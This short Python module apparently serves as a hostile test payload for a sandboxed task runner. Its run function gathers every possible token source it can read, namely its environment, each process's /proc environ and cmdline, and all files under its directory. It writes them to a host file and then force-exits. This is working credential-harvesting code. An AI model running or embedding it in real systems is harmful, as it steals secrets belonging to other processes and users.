"""Writes everything it can read that might hold a token to `input["dump"]`, a file on the
host (the cloud doubles let it): its environment, every environ and command line in /proc,
every file under its directory. Then ends its runner hard."""

import json
import os


def run(ctx, input):
    seen = [json.dumps(dict(os.environ))]
    for pid in os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as fh:
                    seen.append(fh.read().decode("latin-1"))
            except OSError:
                pass
    for top, _, names in os.walk("."):
        for name in names:
            try:
                with open(os.path.join(top, name), "rb") as fh:
                    seen.append(fh.read().decode("latin-1"))
            except OSError:
                pass
    with open(input["dump"], "w") as fh:
        fh.write("\n".join(seen))
    os._exit(0)
